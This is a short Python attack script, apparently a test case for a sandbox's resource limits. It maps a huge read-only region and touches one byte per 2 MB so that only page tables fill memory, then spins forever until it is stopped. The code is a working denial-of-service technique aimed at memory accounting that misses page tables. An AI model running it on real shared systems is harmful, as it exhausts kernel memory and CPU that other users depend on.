# Reads a byte here and there of a huge mapping that it cannot write: nothing is resident but the page tables.
import ctypes

from attack import play

TABLES, PAGE, REACH = 256 << 20, 4096, 2 << 20
PROT_READ, PRIVATE_ANONYMOUS_UNRESERVED = 1, 0x4022


def attack(_: dict) -> None:
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    size = TABLES // PAGE * REACH
    place = libc.mmap(None, ctypes.c_size_t(size), PROT_READ, PRIVATE_ANONYMOUS_UNRESERVED, -1, 0)
    for at in range(place, place + size, REACH):
        ctypes.string_at(at, 1)
    while True:  # until it is noticed
        pass


play(attack)
